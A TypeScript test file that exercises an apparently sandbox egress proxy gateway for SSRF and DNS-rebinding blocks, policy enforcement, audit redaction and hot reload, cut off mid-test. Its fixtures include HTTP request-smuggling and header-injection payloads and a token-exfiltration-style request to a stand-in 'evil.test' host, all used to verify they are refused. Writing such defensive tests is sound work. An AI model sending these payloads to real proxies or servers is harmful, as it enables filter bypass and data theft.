/**
 * The gateway in-process: a real Gateway on a temp data dir, real HTTP/CONNECT clients on the
 * sandbox's unix socket, real upstream servers on 127.0.0.1. No podman.
 *
 * Loopback is always blocked by the SSRF rules, so the Gateway is constructed with its test hooks:
 * a resolver mapping test names to addresses, and an override that lets exactly 127.0.0.1 (the
 * test servers) through. Everything else — 127.0.0.2, ::1, 169.254.169.254, private ranges — meets
 * the real rules, which is what the rebinding tests rely on.
 */
import { describe, it, expect, beforeAll, afterAll, beforeEach } from 'vitest'
import { createServer, request, Agent, type Server, type IncomingMessage } from 'node:http'
import { connect as netConnect, createServer as netCreateServer, type Socket, type AddressInfo } from 'node:net'
import { mkdtempSync, rmSync, readFileSync, statSync, writeFileSync, mkdirSync, existsSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createHash, randomBytes } from 'node:crypto'
import { execFile, spawn } from 'node:child_process'
import { Gateway } from '../../src/gateway/server.js'
import { GatewayClient } from '../../src/gateway/client.js'
import { parseIp, type IpAddress } from '../../src/gateway/address.js'
import { PolicyStore } from '../../src/policy/store.js'
import { globalPolicyStore } from '../../src/policy/global.js'
import { parsePolicyText } from '../../src/policy/parse.js'
import { sandboxSocket, sandboxPolicyDir, sandboxEgressDir, sandboxAuditDir, sandboxDir, gatewaySandboxDir, gatewayControlSocket } from '../../src/config/paths.js'
import { readLogs } from '../../src/gateway/audit.js'

const NAMES: Record<string, string[]> = {
  'allowed.test': ['127.0.0.1'],
  'other.test': ['127.0.0.1'],
  'ro.test': ['127.0.0.1'],
  'audit.test': ['127.0.0.1'],
  'rebind.test': ['127.0.0.2'],
  'metadata.test': ['169.254.169.254'],
  'mapped.test': ['::ffff:127.0.0.1'],
  'mixed.test': ['127.0.0.1', '10.1.1.1'],
  'private.test': ['10.255.255.1'],
  'privok.test': ['10.255.255.1'],
  'revoke.test': ['127.0.0.1'],
}
/** Every name the gateway asked the resolver for (DNS leak tests). */
const lookups: string[] = []
const resolve = async (host: string): Promise<IpAddress[]> => {
  lookups.push(host)
  const a = NAMES[host]
  if (!a) throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: 'ENOTFOUND' })
  return a.map(x => parseIp(x)!)
}

let data: string
let upstream: Server
let PORT: number
let gw: Gateway
let sock: string
let bigBody: Buffer
let bigHash: string

function policyYaml(port: number, extra = ''): string {
  return `version: 1
network_policies:
  app:
    name: app-policy
    endpoints:
      - { host: allowed.test, port: ${port} }
      - { host: rebind.test, port: ${port} }
      - { host: metadata.test, port: ${port} }
      - { host: mapped.test, port: ${port} }
      - { host: mixed.test, port: ${port} }
      - { host: private.test, port: ${port} }
      - { host: privok.test, port: ${port}, allowed_ips: [10.255.255.0/24] }
      - { host: revoke.test, port: ${port} }
  readonly_api:
    endpoints:
      - host: ro.test
        port: ${port}
        protocol: rest
        enforcement: enforce
        access: read-only
      - host: audit.test
        port: ${port}
        protocol: rest
        access: read-only
${extra}`
}

function setPolicy(name: string, yaml: string) {
  const { policy } = parsePolicyText(yaml, 'test')
  return new PolicyStore(sandboxPolicyDir(data, name)).add(policy, 'test')
}

function makeSandbox(name: string) {
  for (const d of [sandboxDir(data, name), sandboxPolicyDir(data, name), sandboxEgressDir(data, name), sandboxAuditDir(data, name)]) mkdirSync(d, { recursive: true, mode: 0o700 })
}

/** One plain-HTTP proxy request over the unix socket. */
function proxied(opts: { method?: string; url: string; headers?: Record<string, string>; body?: Buffer | string; agent?: Agent; socketPath?: string }): Promise<{ status: number; headers: IncomingMessage['headers']; body: Buffer }> {
  return new Promise((res, rej) => {
    const u = new URL(opts.url)
    const r = request({
      socketPath: opts.socketPath ?? sock,
      method: opts.method ?? 'GET',
      path: opts.url,
      headers: { Host: u.host, ...opts.headers },
      agent: opts.agent ?? false,
    })
    r.on('response', m => {
      const chunks: Buffer[] = []
      m.on('data', c => chunks.push(c))
      m.on('end', () => res({ status: m.statusCode!, headers: m.headers, body: Buffer.concat(chunks) }))
      m.on('error', rej)
    })
    r.on('error', rej)
    r.end(opts.body)
  })
}

/** CONNECT over the unix socket; resolves with the status and (on 200) the tunnel socket. */
function tunnel(target: string, socketPath = sock): Promise<{ status: number; socket: Socket; body: string }> {
  return new Promise((res, rej) => {
    const r = request({ socketPath, method: 'CONNECT', path: target, headers: { Host: target }, agent: false })
    r.on('connect', (m: IncomingMessage, s: Socket, head: Buffer) => {
      if (m.statusCode !== 200) {
        let body = head.toString()
        s.on('data', d => (body += d.toString()))
        s.on('end', () => res({ status: m.statusCode!, socket: s, body }))
        s.on('close', () => res({ status: m.statusCode!, socket: s, body }))
      } else res({ status: 200, socket: s, body: '' })
    })
    r.on('response', m => {
      let body = ''
      m.on('data', d => (body += d))
      m.on('end', () => res({ status: m.statusCode!, socket: m.socket as Socket, body }))
    })
    r.on('error', rej)
    r.end()
  })
}

/** Sends raw bytes on the proxy socket and returns everything until the server closes. */
function raw(bytes: string | Buffer, socketPath = sock, waitMs = 2000): Promise<string> {
  return new Promise(res => {
    const c = netConnect(socketPath, () => c.write(bytes))
    let out = ''
    const t = setTimeout(() => c.destroy(), waitMs)
    c.on('data', d => (out += d.toString()))
    c.on('close', () => {
      clearTimeout(t)
      res(out)
    })
    c.on('error', () => undefined)
  })
}

/** GET through an established tunnel (plain HTTP inside, the tests have no TLS upstream). */
function getThrough(s: Socket, host: string, path: string): Promise<string> {
  return new Promise(res => {
    let out = ''
    s.on('data', d => {
      out += d.toString()
      if (/\r\n\r\n/.test(out) && /content-length: (\d+)/i.test(out)) {
        const len = Number(/content-length: (\d+)/i.exec(out)![1])
        const bodyStart = out.indexOf('\r\n\r\n') + 4
        if (out.length - bodyStart >= len) res(out)
      }
    })
    s.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
  })
}

const auditText = (name = 'demo') => {
  const dir = sandboxAuditDir(data, name)
  const read = (f: string) => (existsSync(join(dir, f)) ? readFileSync(join(dir, f), 'utf8') : '')
  return read('openshell.log') + read('ocsf.jsonl')
}

beforeAll(async () => {
  data = mkdtempSync(join(tmpdir(), 'podshell-gw-'))
  bigBody = randomBytes(24 * 1024 * 1024)
  bigHash = createHash('sha256').update(bigBody).digest('hex')
  upstream = createServer((req, res) => {
    if (req.url === '/big') {
      res.writeHead(200, { 'Content-Length': String(bigBody.length) })
      res.end(bigBody)
      return
    }
    if (req.url === '/chunked') {
      res.writeHead(200, { 'Content-Type': 'text/plain' })
      res.write('a'.repeat(1000))
      setTimeout(() => res.end('b'.repeat(1000)), 20)
      return
    }
    const h = createHash('sha256')
    let n = 0
    req.on('data', c => {
      h.update(c)
      n += c.length
    })
    req.on('end', () => {
      const body = JSON.stringify({ method: req.method, url: req.url, headers: req.headers, bytes: n, sha256: h.digest('hex') })
      res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': String(Buffer.byteLength(body)), 'Set-Cookie': 'a=1' })
      res.end(body)
    })
  })
  upstream.on('upgrade', (_req, s: Socket, head: Buffer) => {
    s.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n')
    if (head.length) s.write(`echo:${head.toString()}`)
    s.on('data', d => s.write(`echo:${d.toString()}`))
    s.on('end', () => s.end())
  })
  await new Promise<void>(r => upstream.listen(0, '127.0.0.1', r))
  PORT = (upstream.address() as AddressInfo).port
  makeSandbox('demo')
  setPolicy('demo', policyYaml(PORT))
  gw = new Gateway({
    dataDir: data,
    rescanIntervalMs: 100,
    limits: { connectTimeoutMs: 300 },
    version: 'test',
    testHooks: { resolve, permitAddress: ip => ip.text === '127.0.0.1' },
  })
  await gw.start()
  sock = sandboxSocket(data, 'demo')
})

afterAll(async () => {
  await gw?.stop()
  await new Promise<void>(r => upstream?.close(() => r()))
  rmSync(data, { recursive: true, force: true })
})

describe('serving', () => {
  it('serves the sandbox socket with mode 0600 and the control socket', async () => {
    expect(statSync(sock).isSocket()).toBe(true)
    expect(statSync(sock).mode & 0o777).toBe(0o600)
    expect(statSync(gatewayControlSocket(data)).mode & 0o777).toBe(0o600)
    const c = new GatewayClient(data)
    expect((await c.ping()).version).toBe('test')
    const st = await c.stats()
    expect(st.sandboxes.map(s => s.name)).toContain('demo')
    expect(st.sandboxes.find(s => s.name === 'demo')!.policyVersion).toBe(1)
  })
  it('marks the loaded revision LOADED in the store and logs the config change', () => {
    expect(new PolicyStore(sandboxPolicyDir(data, 'demo')).latest()!.status).toBe('LOADED')
    expect(auditText()).toMatch(/CONFIG:LOADED \[INFO\] policy revision 1 loaded/)
  })
})

describe('CONNECT', () => {
  it('an allowed host:port gets a tunnel; bytes flow both ways', async () => {
    const t = await tunnel(`allowed.test:${PORT}`)
    expect(t.status).toBe(200)
    const out = await getThrough(t.socket, 'allowed.test', '/hello')
    t.socket.destroy()
    expect(out).toMatch(/^HTTP\/1.1 200/)
    expect(out).toContain('"url":"/hello"')
    expect(auditText()).toContain(`NET:OPEN [INFO] ALLOWED -> allowed.test:${PORT} [policy:app engine:podshell]`)
  })
  it('a host not in the policy is refused with 403 and logged', async () => {
    const t = await tunnel(`evil.test:${PORT}`)
    expect(t.status).toBe(403)
    expect(JSON.parse(t.body)).toMatchObject({ error: 'policy_denied', detail: `CONNECT evil.test:${PORT} not permitted by policy` })
    expect(auditText()).toContain(`NET:OPEN [MED] DENIED -> evil.test:${PORT} [policy:- engine:podshell] [reason:endpoint evil.test:${PORT} is not allowed by any policy]`)
  })
  it('an allowed host on another port is refused', async () => {
    expect((await tunnel('allowed.test:22')).status).toBe(403)
    expect((await tunnel(`allowed.test:${PORT + 1}`)).status).toBe(403)
  })
  it('the same address under another spelling is not the allowed name', async () => {
    for (const t of [`127.0.0.1:${PORT}`, `127.1:${PORT}`, `2130706433:${PORT}`, `0x7f.0.0.1:${PORT}`, `[::ffff:127.0.0.1]:${PORT}`]) {
      expect({ t, status: (await tunnel(t)).status }).toEqual({ t, status: 403 })
    }
  })
  it('hostname case and trailing dot are canonicalised (still allowed)', async () => {
    const t = await tunnel(`ALLOWED.Test.:${PORT}`)
    expect(t.status).toBe(200)
    t.socket.destroy()
  })
  it('DNS rebinding: an allowed name resolving to loopback is refused', async () => {
    const t = await tunnel(`rebind.test:${PORT}`)
    expect(t.status).toBe(403)
    expect(JSON.parse(t.body).reason).toMatch(/rebind.test resolves to loopback address 127.0.0.2, which is always blocked/)
    expect(auditText()).toMatch(/DENIED -> rebind.test:\d+ \[policy:app engine:podshell\] \[reason:rebind.test resolves to loopback/)
  })
  it('DNS rebinding to cloud metadata and to v4-mapped loopback is refused', async () => {
    expect((await tunnel(`metadata.test:${PORT}`)).status).toBe(403)
    // 127.0.0.1 itself is permitted by the test hook only in its v4 form; the mapped form meets the real rules
    expect((await tunnel(`mapped.test:${PORT}`)).status).toBe(403)
  })
  it('an answer mixing an allowed and a private address is refused as a whole', async () => {
    const t = await tunnel(`mixed.test:${PORT}`)
    expect(t.status).toBe(403)
    expect(JSON.parse(t.body).reason).toMatch(/10\.1\.1\.1/)
  })
  it('a private address needs allowed_ips; with it the gateway dials (and here finds nothing)', async () => {
    const denied = await tunnel(`private.test:${PORT}`)
    expect(denied.status).toBe(403)
    expect(JSON.parse(denied.body).reason).toMatch(/private \(RFC 1918\) address 10\.255\.255\.1/)
    const dialed = await tunnel(`privok.test:${PORT}`)
    expect(dialed.status).toBe(502)
    expect(auditText()).toMatch(/NET:FAIL \[LOW\] FAILED -> privok.test:\d+/)
  })
  it('an L7-restricted endpoint under enforce refuses CONNECT (TLS is not inspected)', async () => {
    const t = await tunnel(`ro.test:${PORT}`)
    expect(t.status).toBe(403)
    expect(JSON.parse(t.body).reason).toMatch(/would bypass the L7 rules of policy readonly_api \(access: read-only\); podshell does not inspect TLS yet/)
  })
  it('the same under the default enforcement (audit) is allowed and logged as audit', async () => {
    const t = await tunnel(`audit.test:${PORT}`)
    expect(t.status).toBe(200)
    t.socket.destroy()
    expect(auditText()).toMatch(/NET:OPEN \[LOW\] ALLOWED -> audit.test:\d+ \[policy:readonly_api engine:podshell\] \[reason:.*allowed because enforcement is audit\]/)
  })
  it('malformed CONNECT targets are refused before any decision', async () => {
    for (const target of ['allowed.test', 'allowed.test:0', 'allowed.test:99999', 'user@allowed.test:80', '::1:80']) {
      const out = await raw(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
      expect({ target, line: out.split('\r\n')[0] }).toEqual({ target, line: 'HTTP/1.1 400 Bad Request' })
    }
  })
  it('a Host header naming another host than the CONNECT target is refused', async () => {
    const out = await raw(`CONNECT allowed.test:${PORT} HTTP/1.1\r\nHost: evil.test:${PORT}\r\n\r\n`)
    expect(out.split('\r\n')[0]).toBe('HTTP/1.1 400 Bad Request')
  })
  it('a CONNECT head over 8 KiB is refused', async () => {
    const out = await raw(`CONNECT allowed.test:${PORT} HTTP/1.1\r\nHost: allowed.test:${PORT}\r\nX-Pad: ${'a'.repeat(9000)}\r\n\r\n`)
    expect(out.split('\r\n')[0]).toBe('HTTP/1.1 431 Request Header Fields Too Large')
  })
  it('a large download through a tunnel arrives intact (relay buffers and backpressure)', async () => {
    const t = await tunnel(`allowed.test:${PORT}`)
    expect(t.status).toBe(200)
    const body = await new Promise<Buffer>((res, rej) => {
      const r = request({ createConnection: () => t.socket, host: 'allowed.test', port: PORT, path: '/big' })
      r.on('response', m => {
        const chunks: Buffer[] = []
        // a slow reader for the first part: the gateway must pause its upstream reads, not buffer or drop
        m.pause()
        setTimeout(() => m.resume(), 200)
        m.on('data', c => chunks.push(c))
        m.on('end', () => res(Buffer.concat(chunks)))
        // a cut-short body (the gateway closing the tunnel early) fails here, not at the test timeout
        m.on('error', rej)
        m.on('close', () => { if (!m.complete) rej(new Error(`response cut short after ${chunks.reduce((n, c) => n + c.length, 0)} of ${bigBody.length} bytes`)) })
      })
      r.on('error', rej)
      r.end()
    })
    t.socket.destroy()
    expect(body.length).toBe(bigBody.length)
    expect(createHash('sha256').update(body).digest('hex')).toBe(bigHash)
  })
  it('a server that speaks first does not overtake the CONNECT reply', async () => {
    const banner = netCreateServer(s => s.end('BANNER-FIRST\r\n'))
    await new Promise<void>(r => banner.listen(0, '127.0.0.1', r))
    const bport = (banner.address() as AddressInfo).port
    setPolicy('demo', policyYaml(PORT, `  banner:\n    endpoints:\n      - { host: allowed.test, port: ${bport} }\n`))
    await new GatewayClient(data).reload('demo')
    const out = await raw(`CONNECT allowed.test:${bport} HTTP/1.1\r\nHost: allowed.test:${bport}\r\n\r\n`)
    expect(out).toBe('HTTP/1.1 200 Connection Established\r\n\r\nBANNER-FIRST\r\n')
    await new Promise<void>(r => banner.close(() => r()))
  })
  it('data sent right behind the CONNECT head reaches the upstream', async () => {
    const out = await raw(`CONNECT allowed.test:${PORT} HTTP/1.1\r\nHost: allowed.test:${PORT}\r\n\r\nGET /early HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`)
    expect(out).toMatch(/^HTTP\/1.1 200 Connection Established\r\n\r\nHTTP\/1.1 200 OK/)
    expect(out).toContain('"url":"/early"')
  })
})

describe('plain HTTP (absolute-form)', () => {
  it('forwards an allowed GET and returns the upstream response', async () => {
    const r = await proxied({ url: `http://allowed.test:${PORT}/a/b?x=1` })
    expect(r.status).toBe(200)
    const echo = JSON.parse(r.body.toString())
    expect(echo).toMatchObject({ method: 'GET', url: '/a/b?x=1' })
    expect(echo.headers.host).toBe(`allowed.test:${PORT}`)
    expect(r.headers['set-cookie']).toEqual(['a=1'])
  })
  it('does not forward proxy credentials or hop-by-hop headers', async () => {
    const r = await proxied({ url: `http://allowed.test:${PORT}/h`, headers: { 'Proxy-Authorization': 'Basic eDp5', 'Proxy-Connection': 'keep-alive', Connection: 'X-Secret-Hop', 'X-Secret-Hop': '1', 'X-Keep': 'yes' } })
    const h = JSON.parse(r.body.toString()).headers
    expect(h['proxy-authorization']).toBeUndefined()
    expect(h['proxy-connection']).toBeUndefined()
    expect(h['x-secret-hop']).toBeUndefined()
    expect(h['x-keep']).toBe('yes')
  })
  it('a host not in the policy gets 403 with OpenShell\'s JSON deny body', async () => {
    const r = await proxied({ url: `http://evil.test:${PORT}/steal?token=abc` })
    expect(r.status).toBe(403)
    const b = JSON.parse(r.body.toString())
    expect(b).toMatchObject({ error: 'policy_denied', policy: '-', rule: 'GET /steal', host: 'evil.test', port: PORT, method: 'GET', path: '/steal', layer: 'l4' })
    expect(b.detail).toBe(`endpoint evil.test:${PORT} is not allowed by any policy`)
    expect(Array.isArray(b.next_steps)).toBe(true)
    expect(b.next_steps[0].command).toBe(`podshell policy update demo --add-endpoint evil.test:${PORT}`)
  })
  it('L7 read-only under enforce: GET passes, POST is refused with the rule named', async () => {
    expect((await proxied({ url: `http://ro.test:${PORT}/repos` })).status).toBe(200)
    const r = await proxied({ method: 'POST', url: `http://ro.test:${PORT}/repos/x`, body: 'data' })
    expect(r.status).toBe(403)
    expect(JSON.parse(r.body.toString())).toMatchObject({ error: 'policy_denied', policy: 'readonly_api', rule: 'POST /repos/x', layer: 'l7', protocol: 'rest', detail: 'POST /repos/x not permitted by policy', rule_missing: { type: 'rest_allow', method: 'POST', path: '/repos/x' } })
    expect(auditText()).toMatch(/HTTP:POST \[MED\] DENIED POST http:\/\/ro.test:\d+\/repos\/x \[policy:readonly_api engine:podshell\] \[reason:POST \/repos\/x not permitted by policy\]/)
  })
  it('L7 read-only under audit: POST passes and is logged as audit', async () => {
    const r = await proxied({ method: 'POST', url: `http://audit.test:${PORT}/x`, body: 'data' })
    expect(r.status).toBe(200)
    expect(auditText()).toMatch(/HTTP:POST \[LOW\] ALLOWED POST http:\/\/audit.test:\d+\/x \[policy:readonly_api engine:podshell\] \[reason:.*audit\]/)
  })
  it('streams a large upload and a large download intact', async () => {
    const up = await proxied({ method: 'PUT', url: `http://allowed.test:${PORT}/upload`, body: bigBody })
    expect(JSON.parse(up.body.toString())).toMatchObject({ bytes: bigBody.length, sha256: bigHash })
    const down = await proxied({ url: `http://allowed.test:${PORT}/big` })
    expect(down.body.length).toBe(bigBody.length)
    expect(createHash('sha256').update(down.body).digest('hex')).toBe(bigHash)
  })
  it('a chunked request body keeps its framing upstream, also on GET', async () => {
    for (const method of ['POST', 'GET']) {
      const out = await raw(`${method} http://allowed.test:${PORT}/c HTTP/1.1\r\nHost: allowed.test:${PORT}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n`)
      const body = JSON.parse(out.slice(out.indexOf('\r\n\r\n') + 4).replace(/^[0-9a-f]+\r\n/, '').replace(/\r\n0\r\n\r\n$/, ''))
      expect({ method, bytes: body.bytes }).toEqual({ method, bytes: 5 })
    }
  })
  it('keeps the client connection alive across requests', async () => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 })
    const ports = new Set<string>()
    for (let i = 0; i < 3; i++) {
      const r = await proxied({ url: `http://allowed.test:${PORT}/k${i}`, agent })
      expect(r.status).toBe(200)
      ports.add(String(r.headers.connection))
    }
    expect([...ports]).toEqual(['keep-alive'])
    agent.destroy()
  })
  it('forwards a chunked response', async () => {
    const r = await proxied({ url: `http://allowed.test:${PORT}/chunked` })
    expect(r.body.toString()).toBe('a'.repeat(1000) + 'b'.repeat(1000))
  })
  it('DNS rebinding is refused for plain HTTP too', async () => {
    const r = await proxied({ url: `http://rebind.test:${PORT}/` })
    expect(r.status).toBe(403)
    expect(JSON.parse(r.body.toString()).detail).toMatch(/always blocked/)
  })
  it('an unresolvable allowed name is refused with the reason', async () => {
    const store = new PolicyStore(sandboxPolicyDir(data, 'demo'))
    void store
    const r = await proxied({ url: `http://nxdomain.test:${PORT}/` })
    expect(r.status).toBe(403)
  })
  it('WebSocket upgrade over ws:// is decided as a GET and piped', async () => {
    const out = await raw(`GET http://allowed.test:${PORT}/ws HTTP/1.1\r\nHost: allowed.test:${PORT}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nping`, sock, 500)
    expect(out).toMatch(/^HTTP\/1.1 101 Switching Protocols/)
    expect(out).toContain('echo:ping')
    const denied = await raw(`GET http://evil.test:${PORT}/ws HTTP/1.1\r\nHost: evil.test:${PORT}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`)
    expect(denied.split('\r\n')[0]).toBe('HTTP/1.1 403 Forbidden')
  })
})

describe('request smuggling and malformed requests are refused (and logged)', () => {
  const P = () => PORT
  const cases: [string, () => string][] = [
    ['Transfer-Encoding and Content-Length together', () => `POST http://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`],
    ['duplicate Content-Length', () => `POST http://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nabcd`],
    ['obsolete line folding', () => `GET http://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\nX-A: b\r\n c\r\n\r\n`],
    ['CR inside the request target', () => `GET http://allowed.test:${P()}/\rx HTTP/1.1\r\nHost: allowed.test:${P()}\r\n\r\n`],
    ['LF inside the request target (header injection)', () => `GET http://allowed.test:${P()}/\nHost: evil.test HTTP/1.1\r\nHost: allowed.test:${P()}\r\n\r\n`],
    ['bare LF line endings', () => `GET http://allowed.test:${P()}/ HTTP/1.1\nHost: allowed.test:${P()}\n\n`],
    ['Transfer-Encoding other than chunked', () => `POST http://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\nTransfer-Encoding: xchunked\r\n\r\n`],
    ['Host header disagreeing with the absolute-form target', () => `GET http://allowed.test:${P()}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`],
    ['missing Host header', () => `GET http://allowed.test:${P()}/ HTTP/1.1\r\n\r\n`],
    ['a second Host header (virtual-host confusion upstream)', () => `GET http://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\nHost: evil.test\r\n\r\n`],
    ['a second Host header on CONNECT', () => `CONNECT allowed.test:${P()} HTTP/1.1\r\nHost: allowed.test:${P()}\r\nHost: evil.test\r\n\r\n`],
    ['origin-form request (not a proxy request)', () => `GET / HTTP/1.1\r\nHost: allowed.test:${P()}\r\n\r\n`],
    ['https:// absolute-form (must use CONNECT)', () => `GET https://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\n\r\n`],
    ['userinfo in the target', () => `GET http://allowed.test:${P()}@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`],
    ['header section over 16 KiB', () => `GET http://allowed.test:${P()}/ HTTP/1.1\r\nHost: allowed.test:${P()}\r\nX-Pad: ${'a'.repeat(17000)}\r\n\r\n`],
  ]
  it.each(cases)('%s', async (_name, make) => {
    const before = readLogs(data, 'demo', { lines: 100000 }).length
    const out = await raw(make())
    expect(out).toMatch(/^HTTP\/1.1 (400 Bad Request|431 Request Header Fields Too Large)\r\n/)
    // never forwarded: the upstream echo never appears, and nothing reaches evil.test
    expect(out).not.toContain('"method"')
    const after = readLogs(data, 'demo', { lines: 100000 })
    expect(after.length).toBeGreaterThan(before)
    expect(after.at(-1)!.message).toMatch(/DENIED .*malformed/)
  })
})

describe('audit redaction end to end', () => {
  it('query strings, Authorization, Proxy-Authorization and Cookie values never reach the audit files', async () => {
    const secret = 'SECRET-' + randomBytes(8).toString('hex')
    await proxied({ url: `http://allowed.test:${PORT}/p?token=${secret}`, headers: { Authorization: `Bearer ${secret}`, Cookie: `s=${secret}`, 'Proxy-Authorization': `Basic ${secret}` } })
    await proxied({ method: 'POST', url: `http://ro.test:${PORT}/q?key=${secret}`, headers: { Authorization: `Bearer ${secret}` } })
    await proxied({ url: `http://evil.test:${PORT}/x?${secret}=1` })
    await tunnel(`evil.test:${PORT}`)
    expect(auditText()).not.toContain(secret)
    expect(auditText()).toContain('/p')
  })
})

describe('hot reload', () => {
  it('a new revision applies to new connections within milliseconds of the control message', async () => {
    expect((await tunnel(`other.test:${PORT}`)).status).toBe(403)
    const rev = setPolicy('demo', policyYaml(PORT, `  more:\n    endpoints:\n      - { host: other.test, port: ${PORT} }\n`))
    const t0 = performance.now()
    const r = await new GatewayClient(data).reload('demo')
    const t = await tunnel(`other.test:${PORT}`)
    const ms = performance.now() - t0
    expect(r).toMatchObject({ status: 'LOADED', version: rev.version })
    expect(t.status).toBe(200)
    t.socket.destroy()
    expect(ms).toBeLessThan(1000)
    expect(new PolicyStore(sandboxPolicyDir(data, 'demo')).list().map(x => x.status)).toEqual([...Array(rev.version - 1).fill('SUPERSEDED'), 'LOADED'])
  })
  it('revoking an endpoint closes its open tunnels', async () => {
    const t = await tunnel(`revoke.test:${PORT}`)
    expect(t.status).toBe(200)
    const closed = new Promise<void>(r => t.socket.on('close', () => r()))
    setPolicy('demo', policyYaml(PORT).replace(`      - { host: revoke.test, port: ${PORT} }\n`, ''))
    await new GatewayClient(data).reload('demo')
    await closed
    expect(auditText()).toMatch(/NET:CLOSE \[MED\] DENIED -> revoke.test:\d+ .*open connection closed: policy revision \d+ no longer allows it/)
  })
  it('a revision that fails to load is FAILED and the previous one stays in force', async () => {
    const store = new PolicyStore(sandboxPolicyDir(data, 'demo'))
    const before = store.current()!.version
    // A revision whose document no longer matches its hash (damaged on disk) cannot load.
    const rev = setPolicy('demo', policyYaml(PORT))
    writeFileSync(join(sandboxPolicyDir(data, 'demo'), `rev-${rev.version}.yaml`), 'version: 1\nnetwork_policies:\n  all: { endpoints: [ { host: evil.test, port: 1 } ] }\n')
    const r = await new GatewayClient(data).reload('demo')
    expect(r.status).toBe('FAILED')
    expect(r.error).toMatch(/hash/)
    expect(store.list().find(x => x.version === rev.version)!.status).toBe('FAILED')
    expect(store.current()!.version).toBe(before)
    expect((await tunnel(`allowed.test:${PORT}`)).status).toBe(200)
    expect((await tunnel('evil.test:1')).status).toBe(403)
    expect(auditText()).toMatch(/CONFIG:FAILED \[MED\] policy revision \d+ failed to load/)
    // a fixed revision after it loads normally
    expect((await new GatewayClient(data).reload('demo').then(() => setPolicy('demo', policyYaml(PORT))).then(() => new GatewayClient(data).reload('demo'))).status).toBe('LOADED')
  })
  it('the periodic rescan picks up a revision nobody announced', async () => {
    setPolicy('demo', policyYaml(PORT, `  late:\n    endpoints:\n      - { host: other.test, port: ${PORT + 7} }\n`))
    const store = new PolicyStore(sandboxPolicyDir(data, 'demo'))
    for (let i = 0; i < 50 && store.latest()!.status !== 'LOADED'; i++) await new Promise(r => setTimeout(r, 50))
    expect(store.latest()!.status).toBe('LOADED')
  })
})

describe('global policy layer (src/policy/global.ts)', () => {
  it("a global policy replaces the sandbox's own at the next rescan (no control message); deleting it restores the sandbox's own", async () => {
    const t0 = await tunnel(`allowed.test:${PORT}`)
    expect(t0.status).toBe(200)
    t0.socket.destroy()
    const store = globalPolicyStore(data)
    const rev = store.add(parsePolicyText(`version: 1\nnetwork_policies:\n  g:\n    endpoints:\n      - { host: other.test, port: ${PORT} }\n`, 'global').policy, 'global')
    store.markLoaded(rev.version)
    const until = async (target: string, want: number) => {
      let st = 0
      for (let i = 0; i < 60; i++) {
        const t = await tunnel(target)
        t.socket.destroy()
        st = t.status
        if (st === want) break
        await new Promise(r => setTimeout(r, 50))
      }
      return st
    }
    expect(await until(`other.test:${PORT}`, 200)).toBe(200)
    expect((await tunnel(`allowed.test:${PORT}`)).status).toBe(403) // replaced, not merged
    expect(store.deactivate()).toBe(true)
    expect(await until(`allowed.test:${PORT}`, 200)).toBe(200)
    expect((await tunnel(`other.test:${PORT}`)).status).toBe(403)
  })
})

describe('sandboxes coming and going', () => {
  beforeEach(() => {
    for (const n of ['fresh', 'nopol', 'gone']) rmSync(sandboxDir(data, n), { recursive: true, force: true })
  })
  it('a new sandbox is served after reload; before any policy it denies everything', async () => {
    makeSandbox('nopol')
    const r = await new GatewayClient(data).reload('nopol')
    expect(r.status).toBe('NO_POLICY')
    expect((await tunnel(`allowed.test:${PORT}`, sandboxSocket(data, 'nopol'))).status).toBe(403)
    await new GatewayClient(data).remove('nopol')
  })
  it('an empty network_policies denies everything', async () => {
    makeSandbox('fresh')
    setPolicy('fresh', 'version: 1\nnetwork_policies: {}\n')
    expect((await new GatewayClient(data).reload('fresh')).status).toBe('LOADED')
    const t = await tunnel(`allowed.test:${PORT}`, sandboxSocket(data, 'fresh'))
    expect(t.status).toBe(403)
    expect(JSON.parse(t.body).reason).toBe('network connections not allowed by policy')
    await new GatewayClient(data).remove('fresh')
  })
  it('remove closes the socket; the sandbox can no longer connect', async () => {
    makeSandbox('fresh')
    setPolicy('fresh', policyYaml(PORT))
    await new GatewayClient(data).reload('fresh')
    expect((await new GatewayClient(data).remove('fresh')).removed).toBe(true)
    await expect(tunnel(`allowed.test:${PORT}`, sandboxSocket(data, 'fresh'))).rejects.toThrow()
  })
  it('survives a sandbox dir disappearing', async () => {
    makeSandbox('gone')
    setPolicy('gone', policyYaml(PORT))
    await new GatewayClient(data).reload('gone')
    rmSync(gatewaySandboxDir(data, 'gone'), { recursive: true, force: true })
    for (let i = 0; i < 50 && (await new GatewayClient(data).stats()).sandboxes.some(s => s.name === 'gone'); i++) await new Promise(r => setTimeout(r, 50))
    expect((await new GatewayClient(data).stats()).sandboxes.some(s => s.name === 'gone')).toBe(false)
    expect((await new GatewayClient(data).ping()).version).toBe('test')
    await expect(new GatewayClient(data).reload('gone')).rejects.toThrow(/no sandbox gone/)
  })
  it('a deleted socket file is re-created by the rescan (bridges mount the dir, not the file)', async () => {
    rmSync(sock)
    for (let i = 0; i < 50 && !existsSync(sock); i++) await new Promise(r => setTimeout(r, 50))
    const t = await tunnel(`allowed.test:${PORT}`)
